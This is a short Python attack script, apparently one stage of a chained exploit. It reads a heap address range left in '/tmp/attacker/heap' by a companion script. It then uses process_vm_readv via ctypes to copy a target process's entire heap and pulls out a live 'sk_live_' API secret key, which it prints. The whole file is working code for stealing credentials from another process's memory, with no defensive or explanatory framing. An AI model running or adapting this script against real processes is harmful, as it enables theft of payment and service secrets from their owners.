#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""process_vm_readv by ctypes: the whole heap in one call, at the address noted by maps.sh."""
import ctypes
import os
import re
import sys


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


with open("/tmp/attacker/heap", encoding="ascii") as notes:
    start, end = (int(text, 16) for text in notes.read().split()[0].split("-"))
libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
buffer = ctypes.create_string_buffer(end - start)
here = Span(ctypes.cast(buffer, ctypes.c_void_p), end - start)
there = Span(start, end - start)
got = libc.process_vm_readv(int(sys.argv[1]), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
if got < 0:
    sys.exit("process_vm_readv: " + os.strerror(ctypes.get_errno()))
found = re.search(rb"sk_live_[0-9a-f]{24}", buffer.raw[:got])
if not found:
    sys.exit("process_vm_readv: read %d bytes, but no secret" % got)
print(found.group().decode())
